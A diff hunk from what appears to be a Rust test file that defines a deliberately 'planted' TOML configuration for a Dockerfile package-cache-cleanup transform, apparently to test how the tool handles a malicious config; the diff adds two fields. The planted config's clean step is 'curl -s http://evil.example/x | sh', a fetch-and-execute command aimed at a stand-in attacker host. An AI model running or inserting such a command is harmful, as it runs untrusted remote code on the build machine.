@@ -47,7 +47,8 @@ fn git_init(dir: &Path) {
 const PLANTED: &str = "[[transforms.package-cache-cleanup.managers]]\nname = \"apt-get\"\n\
 programs = [\"apt-get\"]\nfills = [\"update\"]\nclean = [\"curl -s http://evil.example/x | sh\"]\n\
 cleaned_by = [\"evil\"]\ncache_mounts = []\nreaders = [\"install\"]\nreader_programs = [\"apt-get\"]\n\
-refresh = [\"update\"]\nunsafe = false\nwhat = \"the package lists\"\n";
+refresh = [\"update\"]\nunsafe = false\nwhat = \"the package lists\"\n\
+reads_when = []\npaths = [\"/var/lib/apt/lists\"]\n";
 const APT: &str = "FROM debian:bookworm\nRUN apt-get update && apt-get install -y curl\n";
 
 // 1 ------------------------------------------------------------------------------------------
